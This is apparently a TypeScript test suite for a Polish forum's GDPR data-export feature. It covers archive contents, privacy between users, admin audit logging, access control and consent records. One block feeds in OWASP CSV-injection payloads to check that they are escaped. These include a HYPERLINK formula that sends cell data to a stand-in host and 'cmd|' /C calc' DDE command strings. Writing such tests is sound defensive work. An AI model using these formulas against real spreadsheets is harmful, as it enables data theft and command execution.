import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { unzipSync } from "fflate";
import type TestAgent from "supertest/lib/agent.js";
import type { GroupDetail } from "@forum/shared";
import { CONSENT_TEXT_VERSION } from "@forum/shared";
import { ConsentRecord } from "../../server/src/models/ConsentRecord.js";
import { Event } from "../../server/src/models/Event.js";
import { User } from "../../server/src/models/User.js";
import { csrfAgent, DEMO, signedInAgent } from "../support/http.js";
import { createNewMember } from "../support/people.js";
import { startTestServer, type TestServer } from "../support/testServer.js";

const PIOTR = "piotr.mazur@demo.forum-jst.pl";
const ORIGINAL = "Pierwsza wersja wpisu o ewaluacji szkół (eksport RODO).";
const EDITED = "Poprawiona wersja wpisu o ewaluacji szkół (eksport RODO).";
const PIOTR_TEXT = "Wpis Piotra, którego nie ma w cudzym eksporcie.";
const DRAFT_TEXT = "Szkic odpowiedzi, jeszcze niewysłany.";
const UPLOADED = Buffer.from("Notatka z posiedzenia GWD: wyniki ankiety.\n", "utf8");

let server: TestServer;
let anna: TestAgent;
let piotr: TestAgent;
let threadId = "";

/** Reads a binary answer whole (supertest parses only text and JSON). */
const download = (agent: TestAgent, url: string) =>
  agent
    .get(url)
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on("data", (chunk: Buffer) => chunks.push(chunk));
      res.on("end", () => done(null, Buffer.concat(chunks)));
    });

/** The CSV files start with a BOM (for Excel): decoding must not drop it. */
const keepingBom = new TextDecoder("utf-8", { ignoreBOM: true });

async function archiveOf(agent: TestAgent, url = "/api/me/export"): Promise<Record<string, string | Uint8Array>> {
  const response = await download(agent, url);
  expect(response.status).toBe(200);
  const entries = unzipSync(new Uint8Array(response.body as Buffer));
  return Object.fromEntries(
    Object.entries(entries).map(([name, bytes]) => [
      name,
      name.startsWith("uploads/") ? bytes : keepingBom.decode(bytes),
    ]),
  );
}
const text = (archive: Record<string, string | Uint8Array>, name: string): string => {
  const content = archive[name];
  if (typeof content !== "string") throw new Error(`no ${name} in the archive`);
  return content;
};

beforeAll(async () => {
  server = await startTestServer({ seed: true, label: "personal-data" });
  anna = await signedInAgent(server.url, DEMO.memberA);
  piotr = await signedInAgent(server.url, PIOTR);
  const detail = (await anna.get("/api/groups/gwd-malopolska")).body as GroupDetail;
  const discussion = detail.categories.find((category) => category.slug === "dyskusje")!;

  const started = await piotr
    .post(`/api/categories/${discussion.id}/threads`)
    .send({ title: "Wątek do eksportu danych", body: PIOTR_TEXT, clientId: randomUUID() });
  expect(started.status).toBe(201);
  threadId = started.body.thread.id;
  const piotrPost = started.body.post.id as string;

  const uploaded = await anna.post("/api/uploads").attach("file", UPLOADED, "notatka-z-posiedzenia.txt");
  expect(uploaded.status).toBe(201);
  const reply = await anna.post(`/api/threads/${threadId}/posts`).send({
    body: `${ORIGINAL}\n\n[notatka](/api/attachments/${uploaded.body.attachment.id})`,
    clientId: randomUUID(),
  });
  expect(reply.status).toBe(201);
  expect((await anna.patch(`/api/posts/${reply.body.post.id}`).send({ body: EDITED })).status).toBe(200);
  expect((await anna.put(`/api/posts/${piotrPost}/reactions/thanks`)).status).toBeLessThan(300);
  expect(
    (await anna.post(`/api/posts/${piotrPost}/flags`).send({ reason: "other", text: "Proszę o sprawdzenie danych." }))
      .status,
  ).toBe(201);
  expect(
    (await anna.put(`/api/drafts/thread/${threadId}`).send({ body: DRAFT_TEXT, clientId: randomUUID() })).status,
  ).toBeLessThan(300);
  expect(
    (
      await anna
        .patch("/api/me/consents")
        .send({ digest: "weekly", mentionEmails: false, directoryListing: false, newsletter: true })
    ).status,
  ).toBe(200);
}, 120_000);
afterAll(() => server?.stop());

describe("the personal data archive", () => {
  it("is a ZIP attachment, not cached, with a README and a JSON and CSV file per dataset", async () => {
    const response = await download(anna, "/api/me/export");
    expect(response.status).toBe(200);
    expect(response.headers["content-type"]).toBe("application/zip");
    expect(response.headers["content-disposition"]).toMatch(
      /^attachment; filename="?forum-jst-moje-dane-\d{4}-\d{2}-\d{2}\.zip"?$/,
    );
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    expect(response.headers["cache-control"]).toBe("no-store");
    const names = Object.keys(unzipSync(new Uint8Array(response.body as Buffer)));
    for (const dataset of ["profile", "posts", "threads", "reactions", "flags", "drafts", "room", "attendance"]) {
      expect(names).toContain(`${dataset}.json`);
    }
    for (const dataset of ["consents", "sessions", "uploads", "notifications", "documents"]) {
      expect(names).toContain(`${dataset}.json`);
      expect(names).toContain(`${dataset}.csv`);
    }
    expect(names).toEqual(
      expect.arrayContaining(["README.txt", "posts.csv", "posts-history.csv", "room-messages.csv"]),
    );
  });

  it("holds my posts with their history, reactions, flags, drafts, consents log, sessions and uploaded files", async () => {
    const archive = await archiveOf(anna);
    expect(text(archive, "README.txt")).toContain("RODO");
    const profile = JSON.parse(text(archive, "profile.json"));
    expect(profile).toMatchObject({ email: DEMO.memberA, name: "Anna Kowalska", groups: [{ slug: "gwd-malopolska" }] });
    expect(profile).not.toHaveProperty("passwordHash");

    const posts = JSON.parse(text(archive, "posts.json"));
    const edited = posts.find((post: { body: string }) => post.body === EDITED);
    expect(edited.thread.title).toBe("Wątek do eksportu danych");
    expect(edited.history.map((version: { body: string }) => version.body)).toEqual([
      expect.stringContaining(ORIGINAL),
      EDITED,
    ]);
    const postsCsv = text(archive, "posts.csv");
    expect(postsCsv.startsWith("\uFEFF")).toBe(true);
    expect(postsCsv).toContain(`;${EDITED}`);
    expect(text(archive, "posts-history.csv")).toContain(ORIGINAL);

    expect(JSON.parse(text(archive, "reactions.json"))).toContainEqual(
      expect.objectContaining({ kind: "thanks", thread: "Wątek do eksportu danych" }),
    );
    expect(JSON.parse(text(archive, "flags.json"))).toContainEqual(
      expect.objectContaining({ reason: "other", text: "Proszę o sprawdzenie danych.", status: "pending" }),
    );
    expect(JSON.parse(text(archive, "drafts.json"))).toContainEqual(
      expect.objectContaining({ scope: "thread", body: DRAFT_TEXT }),
    );
    const consents = JSON.parse(text(archive, "consents.json"));
    expect(consents.current).toEqual({
      digest: "weekly",
      mentionEmails: false,
      directoryListing: false,
      newsletter: true,
    });
    expect(consents.log).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: "newsletter", value: "given", textVersion: CONSENT_TEXT_VERSION }),
        expect.objectContaining({ kind: "digest", value: "given", frequency: "weekly" }),
      ]),
    );
    const sessions = JSON.parse(text(archive, "sessions.json"));
    expect(sessions.some((session: { current: boolean }) => session.current)).toBe(true);

    const uploads = JSON.parse(text(archive, "uploads.json"));
    const note = uploads.find((entry: { originalName: string }) => entry.originalName === "notatka-z-posiedzenia.txt");
    expect(note.thread).toBe("Wątek do eksportu danych");
    expect(Buffer.from(archive[note.file] as Uint8Array).equals(UPLOADED)).toBe(true);
  });

  it("holds nothing of another person: no texts, no e-mail", async () => {
    const archive = await archiveOf(piotr);
    const everything = Object.entries(archive)
      .filter(([name]) => !name.startsWith("uploads/"))
      .map(([, content]) => content as string)
      .join("\n");
    expect(everything).toContain(PIOTR_TEXT);
    expect(everything).not.toContain(EDITED);
    expect(everything).not.toContain(ORIGINAL);
    expect(everything).not.toContain(DRAFT_TEXT);
    expect(everything).not.toContain("Proszę o sprawdzenie danych.");
    expect(everything).not.toContain(DEMO.memberA);
    expect(Object.keys(archive).filter((name) => name.startsWith("uploads/"))).toEqual([]);
  });

  it("records who took whose data", async () => {
    const admin = await signedInAgent(server.url, DEMO.admin);
    const annaId = String((await User.findOne({ email: DEMO.memberA }).lean())?._id);
    const archive = await archiveOf(admin, `/api/admin/users/${annaId}/export`);
    expect(JSON.parse(text(archive, "posts.json"))).toContainEqual(expect.objectContaining({ body: EDITED }));
    // An admin's export marks none of the person's sessions as "current".
    expect(JSON.parse(text(archive, "sessions.json")).every((s: { current: boolean }) => !s.current)).toBe(true);
    const events = await Event.find({ name: "users.export", subjectId: annaId }).lean();
    expect(events.some((event) => event.actorId?.toString() === annaId && event.data.byAdmin === false)).toBe(true);
    expect(events.some((event) => event.actorId?.toString() !== annaId && event.data.byAdmin === true)).toBe(true);
  });

  it("is refused to visitors, to members and moderators for someone else, and for unknown people", async () => {
    const annaId = String((await User.findOne({ email: DEMO.memberA }).lean())?._id);
    const visitor = await csrfAgent(server.url);
    expect((await visitor.get("/api/me/export")).status).toBe(401);
    expect((await visitor.get(`/api/admin/users/${annaId}/export`)).status).toBe(401);
    const refused = await piotr.get(`/api/admin/users/${annaId}/export`);
    expect(refused.status).toBe(404);
    expect(refused.headers["content-type"]).not.toMatch(/zip/);
    const moderator = await signedInAgent(server.url, DEMO.moderator);
    expect((await moderator.get(`/api/admin/users/${annaId}/export`)).status).toBe(403);
    expect((await moderator.get(`/api/admin/users/${annaId}/consents`)).status).toBe(403);
    const admin = await signedInAgent(server.url, DEMO.admin);
    expect((await admin.get("/api/admin/users/nie-ma-takiego/export")).status).toBe(404);
    const missing = await admin.get("/api/admin/users/0123456789abcdef01234567/export");
    expect(missing.status).toBe(404);
    expect(missing.body.error.message).toBe("Nie ma takiego użytkownika.");
  });
});

describe("the archive's CSV files", () => {
  // OWASP's CSV-injection examples: text a spreadsheet would run as a formula.
  const NAME = '=HYPERLINK("http://zly.example/?"&B2;"Moje dane")';
  const TITLE = "@SUM(1+1)*cmd|' /C calc'!A0";
  const BODY = "=cmd|' /C calc'!A0";
  const DRAFT = "-2+3+cmd|' /C calc'!A0";

  it("hold a display name, titles, posts and drafts that look like formulas as text", async () => {
    await createNewMember("formula.export@example.pl", NAME);
    const agent = await signedInAgent(server.url, "formula.export@example.pl");
    const detail = (await agent.get("/api/groups/gwd-malopolska")).body as GroupDetail;
    const discussion = detail.categories.find((category) => category.slug === "dyskusje")!;
    const started = await agent
      .post(`/api/categories/${discussion.id}/threads`)
      .send({ title: TITLE, body: BODY, clientId: randomUUID() });
    expect(started.status).toBe(201);
    const draft = await agent
      .put(`/api/drafts/thread/${started.body.thread.id as string}`)
      .send({ body: DRAFT, clientId: randomUUID() });
    expect(draft.status).toBeLessThan(300);

    const archive = await archiveOf(agent);
    const table = (name: string) =>
      parse(text(archive, name), { bom: true, delimiter: ";", columns: true }) as Record<string, string>[];
    expect(table("profile.csv")).toContainEqual({ Pole: "Imię i nazwisko", Wartość: `'${NAME}` });
    expect(table("threads.csv").map((row) => row["Tytuł"])).toEqual([`'${TITLE}`]);
    expect(table("posts.csv").map((row) => [row["Wątek"], row["Treść"]])).toEqual([[`'${TITLE}`, `'${BODY}`]]);
    expect(table("drafts.csv").map((row) => row["Treść"])).toEqual([`'${DRAFT}`]);
    for (const name of Object.keys(archive).filter((file) => file.endsWith(".csv")))
      for (const row of table(name))
        for (const cell of Object.values(row))
          expect([name, cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([name, cell, false]);
  });
});

describe("the consents log", () => {
  const allOff = { digest: "off", mentionEmails: false, directoryListing: false, newsletter: false };

  it("writes one record per changed consent with its text version, and none when nothing changed", async () => {
    const marek = await signedInAgent(server.url, DEMO.memberB);
    expect((await marek.patch("/api/me/consents").send(allOff)).status).toBe(200);
    const userId = (await User.findOne({ email: DEMO.memberB }).lean())!._id;
    const before = await ConsentRecord.countDocuments({ userId });

    expect((await marek.patch("/api/me/consents").send({ ...allOff, newsletter: true })).status).toBe(200);
    expect((await marek.patch("/api/me/consents").send({ ...allOff, newsletter: true })).status).toBe(200);
    expect((await marek.patch("/api/me/consents").send({ ...allOff, digest: "daily" })).status).toBe(200);

    const records = await ConsentRecord.find({ userId }).sort({ at: 1, _id: 1 }).skip(before).lean();
    expect(records.map((record) => [record.kind, record.value, record.frequency])).toEqual([
      ["newsletter", "given", null],
      // One save changed two consents: two records.
      ["digest", "given", "daily"],
      ["newsletter", "withdrawn", null],
    ]);
    expect(records.every((record) => record.textVersion === CONSENT_TEXT_VERSION)).toBe(true);
    expect(records[0]?.textDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(records[0]?.ip).not.toBeNull();

    const history = (await marek.get("/api/me/consents/history")).body.records;
    expect(history[0]).toMatchObject({ kind: "digest", value: "given", frequency: "daily" });
    const admin = await signedInAgent(server.url, DEMO.admin);
    const seenByAdmin = await admin.get(`/api/admin/users/${userId.toString()}/consents`);
    expect(seenByAdmin.body.records).toEqual(history);
  });

  it("refuses a form without every consent, in Polish, and changes nothing", async () => {
    const marek = await signedInAgent(server.url, DEMO.memberB);
    const userId = (await User.findOne({ email: DEMO.memberB }).lean())!._id;
    const before = await ConsentRecord.countDocuments({ userId });
    const missing = await marek
      .patch("/api/me/consents")
      .send({ digest: "off", mentionEmails: true, directoryListing: false });
    expect(missing.status).toBe(400);
    expect(missing.body.error.message).toBe("Zaznacz albo odznacz zgodę na newsletter.");
    const bad = await marek.patch("/api/me/consents").send({ ...allOff, digest: "co godzinę" });
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toBe("Wybierz, jak często wysyłać podsumowanie.");
    expect(await ConsentRecord.countDocuments({ userId })).toBe(before);
  });
});
